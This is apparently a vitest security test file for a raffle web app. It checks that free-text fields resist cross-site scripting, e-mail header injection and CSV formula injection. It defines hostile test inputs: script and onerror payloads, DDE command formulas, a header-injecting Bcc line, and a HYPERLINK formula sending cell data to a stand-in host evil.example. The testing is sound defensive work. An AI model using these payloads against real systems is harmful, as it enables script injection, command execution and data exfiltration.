// XSS and injection (docs/security.md): markup and spreadsheet formulas in every free-text field are stored as
// written, come back as JSON strings, are escaped in e-mails and neutralised in the CSV exports.
import { existsSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { desc, eq } from "drizzle-orm";
import type { LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { contactMessages, mailOutbox, users } from "../../src/db/schema";
import { raffleBody } from "../admin-fixtures";
import { createTestApp, nextIp, type TestApp } from "../helpers";
import { buildWorld, multipartBody, proofFields, uniqueId, type World } from "./support";

const SCRIPT = "<script>alert(1)</script>";
const IMG = '"><img src=x onerror=alert(1)>';
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ver premio")';
const FORMULAS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
const SUPPORT = "soporte@rifazo.test";

let t: TestApp;
let world: World;

beforeAll(async () => {
  t = await createTestApp({ supportEmail: SUPPORT });
  world = await buildWorld(t);
}, 120_000);

afterAll(async () => {
  await t?.close();
});

function expectJsonString(
  response: LightMyRequestResponse,
  read: (body: never) => unknown,
  expected: string,
) {
  expect(response.statusCode, response.body).toBeLessThan(300);
  expect(response.headers["content-type"]).toMatch(/^application\/json/);
  expect(response.headers["x-content-type-options"]).toBe("nosniff");
  expect(read(response.json() as never)).toBe(expected);
}

/** The HTML of the newest e-mail to `to`; it must show the payload only as escaped text. */
/** A PNG proof for the world's raffle with `fields`, named `fileName`, sent by `cookie` from a new address. */
function sendProof(fields: Record<string, string>, fileName: string, cookie: string) {
  const upload = multipartBody(proofFields(world.ids.raffle, uniqueId(), fields), {
    name: fileName,
    type: "image/png",
    data: world.png,
  });
  return t.app.inject({
    method: "POST",
    url: "/api/proofs",
    payload: upload.payload,
    headers: { ...upload.headers, cookie },
    remoteAddress: nextIp(),
  });
}

async function latestMail(to: string) {
  const [row] = await t.app.ctx.db
    .select()
    .from(mailOutbox)
    .where(eq(mailOutbox.to, to))
    .orderBy(desc(mailOutbox.createdAt))
    .limit(1);
  expect(row, `sin correo para ${to}`).toBeDefined();
  return row as NonNullable<typeof row>;
}

function expectEscapedHtml(html: string, label: string) {
  expect(html, label).not.toContain("<script");
  expect(html, label).not.toMatch(/<img\b/i);
  expect(html, label).not.toMatch(/<[^>]*\sonerror\s*=/i);
  expect(html, label).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  expect(html, label).toContain("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;");
}

const get = (url: string, cookie?: string) =>
  t.app.inject({ method: "GET", url, headers: cookie ? { cookie } : {} });

describe("free text is stored verbatim and returned as JSON", () => {
  it("registration full name (and the verification e-mail escapes it)", async () => {
    const email = `xss.${uniqueId()}@example.com`;
    const fullName = `${IMG} ${SCRIPT}`;
    const response = await t.app.inject({
      method: "POST",
      url: "/api/account/register",
      payload: { fullName, email, password: "ClaveSegura123", confirmPassword: "ClaveSegura123" },
      remoteAddress: nextIp(),
    });
    expect(response.statusCode, response.body).toBe(201);
    const [row] = await t.app.ctx.db.select().from(users).where(eq(users.email, email));
    expect(row?.name).toBe(fullName);
    const mail = await latestMail(email);
    expectEscapedHtml(mail.html, "correo de verificación");
    expect(mail.text).toContain(fullName);
  });

  it("profile name", async () => {
    const fullName = `${SCRIPT}${IMG}`;
    const response = await t.app.inject({
      method: "PATCH",
      url: "/api/profile",
      payload: { fullName },
      headers: { cookie: world.actors.otherUser.cookie },
    });
    expectJsonString(response, (b: { fullName: string }) => b.fullName, fullName);
    expectJsonString(
      await get("/api/account/me", world.actors.otherUser.cookie),
      (b: { fullName: string }) => b.fullName,
      fullName,
    );
  });

  it("proof notes, admin notes (and the rejection e-mail escapes them)", async () => {
    const userNotes = `${SCRIPT} ${IMG}`;
    const created = await sendProof({ userNotes }, `${IMG}.png`, world.actors.otherUser.cookie);
    expectJsonString(created, (b: { userNotes: string }) => b.userNotes, userNotes);
    const { id } = created.json() as { id: string };

    const adminNotes = `${IMG} ${SCRIPT}`;
    const rejected = await t.app.inject({
      method: "POST",
      url: `/api/admin/proofs/${id}/reject`,
      payload: { adminNotes },
      headers: { cookie: world.actors.admin.cookie },
    });
    expect(rejected.statusCode, rejected.body).toBe(200);
    const mine = await get(`/api/proofs/${id}`, world.actors.otherUser.cookie);
    expectJsonString(mine, (b: { adminNotes: string }) => b.adminNotes, adminNotes);
    expectJsonString(mine, (b: { userNotes: string }) => b.userNotes, userNotes);
    const list = await get("/api/admin/proofs", world.actors.admin.cookie);
    expect(list.headers["content-type"]).toMatch(/^application\/json/);
    const listed = (
      list.json() as { items: Array<{ id: string; adminNotes: string; userNotes: string }> }
    ).items.find((p) => p.id === id);
    expect(listed?.adminNotes).toBe(adminNotes);
    expect(listed?.userNotes).toBe(userNotes);

    const notifications = await get("/api/notifications", world.actors.otherUser.cookie);
    expect(notifications.headers["content-type"]).toMatch(/^application\/json/);
    expect(notifications.body).toContain(JSON.stringify(adminNotes).slice(1, -1));

    // The rejection notice carries the note (and, from the previous test, the user's own name).
    const mail = await latestMail(world.actors.otherUser.email);
    expectEscapedHtml(mail.html, "correo de rechazo");
  });

  it("raffle title", async () => {
    const title = `${SCRIPT}${IMG}`;
    const created = await t.app.inject({
      method: "POST",
      url: "/api/admin/raffles",
      headers: { cookie: world.actors.admin.cookie },
      payload: {
        title,
        description: IMG,
        price: 5,
        currency: "USD",
        totalTickets: 10,
        status: "active",
        activationType: "date",
        endDate: "2031-06-01T20:00:00.000Z",
        prizeLevels: [{ description: SCRIPT, winnerCount: 1 }],
      },
    });
    expectJsonString(created, (b: { title: string }) => b.title, title);
    const { id } = created.json() as { id: string };
    expectJsonString(await get(`/api/raffles/${id}`), (b: { title: string }) => b.title, title);
    expectJsonString(await get(`/api/raffles/${id}`), (b: { description: string }) => b.description, IMG);
  });

  it("contact message (and the support e-mail escapes it; no header injection)", async () => {
    const payload = {
      name: `${IMG}`,
      email: "visitante@example.com",
      subject: `Hola\r\nBcc: victima@evil.example ${SCRIPT}`,
      message: `${SCRIPT}\n${IMG}`,
    };
    const response = await t.app.inject({
      method: "POST",
      url: "/api/contact",
      payload,
      remoteAddress: nextIp(),
    });
    expect(response.statusCode, response.body).toBe(201);
    expect(response.headers["content-type"]).toMatch(/^application\/json/);
    const [stored] = await t.app.ctx.db
      .select()
      .from(contactMessages)
      .orderBy(desc(contactMessages.createdAt))
      .limit(1);
    expect(stored?.message).toBe(payload.message);
    expect(stored?.name).toBe(payload.name);
    const mail = await latestMail(SUPPORT);
    expectEscapedHtml(mail.html, "correo de contacto");
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(mail.text).toContain(payload.message);
  });

  it("admin e-mail and notification to a user: escaped, single-line subject on the wire", async () => {
    const userId = world.actors.user.id;
    const email = await t.app.inject({
      method: "POST",
      url: `/api/admin/users/${userId}/email`,
      headers: { cookie: world.actors.admin.cookie },
      payload: { subject: `Aviso\r\nBcc: victima@evil.example`, body: `${SCRIPT}\n\n${IMG}` },
    });
    expect(email.statusCode, email.body).toBe(200);
    const mail = await latestMail(world.actors.user.email);
    expectEscapedHtml(mail.html, "correo del administrador");

    const notify = await t.app.inject({
      method: "POST",
      url: `/api/admin/users/${userId}/notify`,
      headers: { cookie: world.actors.admin.cookie },
      payload: { title: SCRIPT, message: IMG },
    });
    expect(notify.statusCode, notify.body).toBe(200);
    const list = await get("/api/notifications", world.actors.user.cookie);
    const items = (list.json() as { items: Array<{ title: string; message: string }> }).items;
    expect(items.some((n) => n.title === SCRIPT && n.message === IMG)).toBe(true);

    // What actually leaves: nodemailer writes the .eml files (no SMTP in tests); no injected header.
    await t.app.ctx.mail.drain();
    const outbox = path.join(t.dataDir, "outbox");
    const files = existsSync(outbox) ? readdirSync(outbox).filter((f) => f.endsWith(".eml")) : [];
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) {
      const raw = readFileSync(path.join(outbox, file), "utf8");
      const headers = raw.split(/\r?\n\r?\n/)[0] ?? "";
      expect(headers, file).not.toMatch(/^bcc:/im);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// CSV
// ---------------------------------------------------------------------------------------------

/** RFC 4180 parser (quotes, doubled quotes, CRLF), enough to read our own exports back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = text.replace(/^\uFEFF/, "");
  for (let i = 0; i < body.length; i++) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && body[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe("CSV exports neutralise formulas", () => {
  it("a cell starting with = + - @ is prefixed with a quote in users, raffles and proofs", async () => {
    const admin = world.actors.admin.cookie;
    const [nameFormula, refFormula, notesFormula, titleFormula] = FORMULAS as [
      string,
      string,
      string,
      string,
    ];
    // A user's name, a raffle's title, a proof's reference and notes: all typed by someone else.
    const profile = await t.app.inject({
      method: "PATCH",
      url: "/api/profile",
      payload: { fullName: nameFormula },
      headers: { cookie: world.actors.user.cookie },
    });
    expect(profile.statusCode, profile.body).toBe(200);
    const raffle = await t.app.inject({
      method: "POST",
      url: "/api/admin/raffles",
      headers: { cookie: admin },
      payload: raffleBody({ title: titleFormula, totalTickets: 10 }),
    });
    expect(raffle.statusCode, raffle.body).toBe(201);
    const proof = await sendProof(
      { transactionRef: refFormula.slice(0, 40), userNotes: notesFormula },
      "c.png",
      world.actors.user.cookie,
    );
    // The reference may be refused by its own format rule; the notes always go through.
    if (proof.statusCode !== 201) {
      const again = await sendProof({ userNotes: notesFormula }, "c.png", world.actors.user.cookie);
      expect(again.statusCode, again.body).toBe(201);
    }

    const expectations: Array<[string, string[]]> = [
      ["users", [nameFormula]],
      ["raffles", [titleFormula]],
      ["proofs", [nameFormula, notesFormula]],
    ];
    for (const [name, payloads] of expectations) {
      const response = await get(`/api/admin/exports/${name}.csv`, admin);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers["content-type"]).toMatch(/^text\/csv/);
      expect(response.headers["x-content-type-options"]).toBe("nosniff");
      expect(String(response.headers["content-disposition"])).toMatch(/^attachment;/);
      const cells = parseCsv(response.body).slice(1).flat();
      for (const payload of payloads) {
        expect(cells, `${name}.csv`).toContain(`'${payload}`);
        expect(cells, `${name}.csv`).not.toContain(payload);
      }
      for (const cell of cells) {
        // Numbers we write ourselves may be negative; any other cell must not start a formula.
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, `${name}.csv: celda ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});
